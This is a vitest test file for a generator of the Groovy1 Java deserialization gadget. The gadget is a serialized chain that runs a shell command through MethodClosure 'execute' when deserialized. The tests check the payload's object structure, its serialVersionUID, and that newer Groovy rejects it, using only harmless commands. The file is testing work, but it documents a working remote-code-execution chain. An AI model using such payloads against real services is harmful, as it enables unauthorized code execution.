import { describe, expect, it } from 'vitest';
import { evaluate } from '../testing/evaluate.js';
import { hasJar, JARS, readWithJava } from '../testing/java.js';
import {
  annotationsOf,
  type Content,
  describeContent,
  fieldOf,
  readJavaStream,
} from '../testing/java-stream.js';
import { GROOVY_2_3 } from './java-classes.js';
import { groovy1Gadget } from './java-groovy-gadget.js';

const HANDLER = 'sun.reflect.annotation.AnnotationInvocationHandler';
const RUNTIME = 'org.codehaus.groovy.runtime';

describe('generate_java_gadget("groovy1", …)', () => {
  it('is an Override handler over a Map proxy whose entrySet calls execute on the command', () => {
    const contents = readJavaStream(groovy1Gadget('touch /tmp/x'));
    expect(contents).toHaveLength(1);
    const handler = contents[0] as Content;
    expect(describeContent(fieldOf(handler, HANDLER, 'type'))).toBe('class java.lang.Override');
    const proxy = fieldOf(handler, HANDLER, 'memberValues');
    expect(describeContent(proxy)).toBe('proxy(java.util.Map)');
    const converted = fieldOf(proxy, 'java.lang.reflect.Proxy', 'h');
    expect(describeContent(fieldOf(converted, `${RUNTIME}.ConvertedClosure`, 'methodName'))).toBe(
      '"entrySet"',
    );
    const closure = fieldOf(converted, `${RUNTIME}.ConversionHandler`, 'delegate');
    expect(describeContent(fieldOf(closure, `${RUNTIME}.MethodClosure`, 'method'))).toBe('"execute"');
    expect(describeContent(fieldOf(closure, 'groovy.lang.Closure', 'delegate'))).toBe('"touch /tmp/x"');
    expect(describeContent(fieldOf(closure, 'groovy.lang.Closure', 'owner'))).toBe('"touch /tmp/x"');
    const cache = fieldOf(converted, `${RUNTIME}.ConversionHandler`, 'handleCache');
    const segments = fieldOf(cache, 'java.util.concurrent.ConcurrentHashMap', 'segments');
    expect(typeof segments === 'object' && segments.kind === 'array' && segments.elements.length).toBe(16);
    expect(annotationsOf(cache, 'java.util.concurrent.ConcurrentHashMap').map(describeContent)).toEqual([
      'null',
      'null',
    ]);
  });

  it('writes MethodClosure with the serialVersionUID of groovy 2.3.9', () => {
    const payload = Buffer.from(evaluate('generate_java_gadget("groovy1", "id", "hex")') as string, 'hex');
    const closure = fieldOf(
      fieldOf(fieldOf(readJavaStream(payload)[0], HANDLER, 'memberValues'), 'java.lang.reflect.Proxy', 'h'),
      `${RUNTIME}.ConversionHandler`,
      'delegate',
    );
    expect(
      typeof closure === 'object' && closure.kind === 'object' && closure.descriptor.serialVersionUid,
    ).toBe(GROOVY_2_3.methodClosure.serialVersionUid);
  });

  it.skipIf(!hasJar(JARS.groovy))(
    "is read with Debian's groovy (2.4.21) up to MethodClosure, which groovy 2.4.4 and later refuse",
    () => {
      // groovy 2.3.9, which the gadget runs on, is not in Debian
      expect(readWithJava(groovy1Gadget('id'), { jars: [JARS.groovy] })).toEqual([
        `class ${HANDLER}`,
        'proxy java.util.Map',
        'class java.lang.reflect.Proxy',
        `class ${RUNTIME}.ConvertedClosure`,
        `class ${RUNTIME}.ConversionHandler`,
        `class ${RUNTIME}.MethodClosure`,
        'class groovy.lang.Closure',
        `refused java.io.InvalidClassException: ${RUNTIME}.MethodClosure; local class incompatible: stream classdesc serialVersionUID = 1228988487386910280, local class serialVersionUID = 5316055624606528584 in java.io.ObjectStreamClass`,
      ]);
    },
    90_000,
  );
});
